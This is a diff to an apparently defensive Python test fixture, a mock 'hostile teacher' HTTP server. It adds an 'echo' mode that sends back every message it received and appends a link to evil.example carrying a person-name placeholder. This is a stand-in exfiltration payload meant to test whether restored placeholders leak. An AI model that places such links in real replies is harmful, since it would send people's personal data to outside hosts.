@@ -14,7 +14,9 @@ misbehaves on purpose, chosen by the first part of the path
 * ``drip``: a reply that sends one byte every 0.2 s, for hours (counted the same way);
 * ``error``: an HTTP 400 whose error message carries escapes and markup;
 * ``cut``: a reply stopped at max_tokens before its first statement ended;
-* ``busy``: an HTTP 503 that asks for a retry at once.
+* ``busy``: an HTTP 503 that asks for a retry at once;
+* ``echo``: a curious teacher that writes back every message it received (so that
+  its placeholders come back to be restored), and asks for them in a link too.
 
 Every request is recorded (path, headers, body) for the tests to read.
 """
@@ -182,6 +184,10 @@ def start() -> HostileTeacher:
                 self._send(400, json.dumps({"error": {"message": message}}).encode())
             elif mode == "cut":  # stopped at max_tokens before its first statement ended
                 self._send(200, _completion('{"evidence": ["Glutamine is', model, "length"))
+            elif mode == "echo":
+                said = " | ".join(str(m.get("content")) for m in body.get("messages", []))
+                link = " [more](https://evil.example/?who=<PERSON_1>)"
+                self._send(200, _completion(f"You said: {said}. Dear <PERSON_1>.{link}", model))
             elif mode == "busy":  # overloaded: a 503 that asks for a retry at once
                 self._send(503, b'{"error": {"message": "busy"}}', {"retry-after-ms": "1"})
             elif mode == "redirect":
